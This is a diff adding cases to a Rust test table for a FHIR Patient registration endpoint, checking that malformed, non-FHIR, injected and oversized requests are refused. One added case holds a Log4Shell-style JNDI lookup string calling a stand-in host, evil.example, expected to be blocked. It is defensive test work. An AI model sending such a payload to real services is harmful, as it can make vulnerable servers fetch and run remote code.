@@ -183,6 +183,21 @@ impl<'d> Tour<'d> {
                 register(r#"{"resourceType":"Patient","active":tru"#),
                 Refusal(400, "malformed_body"),
             ),
+            (
+                "A patient with what FHIR R4 does not have",
+                register(r#"{"resourceType":"Patient","isAdmin":true}"#),
+                Refusal(422, "not_fhir_shape"),
+            ),
+            (
+                "A note that looks something up",
+                register(r#"{"resourceType":"Patient","name":[{"text":"${jndi:ldap://evil.example/a}"}]}"#),
+                Refusal(403, "injection_found"),
+            ),
+            (
+                "… and a name that only looks like an attack",
+                register(r#"{"resourceType":"Patient","name":[{"family":"O'Brien-Select","given":["Union"]}]}"#),
+                Answer(201),
+            ),
             ("A body of more than 1 MiB", register(&large), Refusal(413, "body_too_large")),
             ("A path that two readers read in two ways", escaped, Refusal(400, "ambiguous_path")),
             ("Another host", Request::get(PATIENT).host("other.example"), Refusal(404, "no_route")),
